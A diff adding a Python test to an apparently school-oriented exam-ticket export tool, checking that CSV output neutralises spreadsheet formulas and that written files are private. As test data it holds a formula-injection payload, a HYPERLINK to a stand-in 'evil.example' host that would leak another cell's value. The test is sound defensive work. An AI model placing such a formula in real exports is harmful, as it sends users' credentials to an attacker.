@@ -88,3 +88,22 @@ def test_csv_lists_the_same_cards_in_order(tmp_path: Path) -> None:
     assert body[0] == ["4403050001", "南山实验学校", "4", "1班", first.student_code, first.ticket, first.pin, URL]
     assert write_tickets(tmp_path / "t.csv", deck, login_url=URL).read_bytes() == raw
     assert write_tickets(tmp_path / "t.pdf", deck, login_url=URL).read_bytes().startswith(b"%PDF-")
+
+
+def test_csv_neutralises_formula_names_and_files_are_private(tmp_path: Path) -> None:
+    import csv as csvlib
+    import stat
+
+    from itembank.tabular import restore_cell
+
+    evil = IssuedTicket(
+        "P1", "S1", '=HYPERLINK("http://evil.example/?"&F2,"点此")', 4, "@SUM(1+1)", "1234567897", "271828"
+    )
+    raw = tickets_csv([evil], login_url=URL)
+    row = list(csvlib.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1]
+    assert row[1] == "'" + evil.school_name and row[3] == "'@SUM(1+1)"
+    assert restore_cell(row[1]) == evil.school_name and row[6] == "271828"
+    for name in ("t.csv", "t.pdf"):
+        path = write_tickets(tmp_path / name, [evil], login_url=URL)
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600
+        assert not (tmp_path / f"{name}.part").exists()
